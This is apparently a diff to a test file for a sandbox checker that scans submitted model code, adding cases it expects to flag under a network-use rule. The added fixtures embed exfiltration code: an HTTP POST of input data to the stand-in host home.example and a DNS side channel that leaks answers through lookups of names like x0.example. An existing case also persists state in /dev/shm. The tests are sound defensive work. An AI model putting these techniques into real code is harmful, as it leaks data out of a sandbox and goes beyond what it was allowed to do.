@@ -124,6 +124,39 @@ def sends_the_images_home(path):
     return predicting(path, body + RETURN)
 
 
+@bad(
+    "SEC08",
+    file="model.py",
+    line=11,
+    says=r"Tried to send to home\.example:80 in predict \(model\.py, line 11\)",
+    remedy="Remove everything that uses the network",
+)
+def posts_the_images_to_a_name(path):
+    """The name is not even found, but what would have followed is clear."""
+    post = "urllib.request.urlopen('http://home.example/', data=np.asarray(X).tobytes(), timeout=2)"
+    return predicting(path, f"import urllib.request\ntry:\n    {post}\nexcept OSError:\n    pass\n" + RETURN)
+
+
+@bad(
+    "SEC08",
+    file="model.py",
+    line=12,
+    says=r"Looked up more than 3 names in predict, first x0\.example \(model\.py, line 12\)",
+    remedy="Remove everything that uses the network",
+)
+def tells_the_answers_by_the_names_it_looks_up(path):
+    ask = "socket.gethostbyname(f'x{int(answer)}.example')"
+    body = f"""\
+import socket
+for answer in range(4):
+    try:
+        {ask}
+    except OSError:
+        pass
+"""
+    return predicting(path, body + RETURN)
+
+
 @bad("SEC10", says=r"Left /dev/shm/seen behind", remedy="Keep nothing outside")
 def remembers_for_the_next_run(path):
     return predicting(path, "open('/dev/shm/seen', 'a').write('once more')\n" + RETURN)
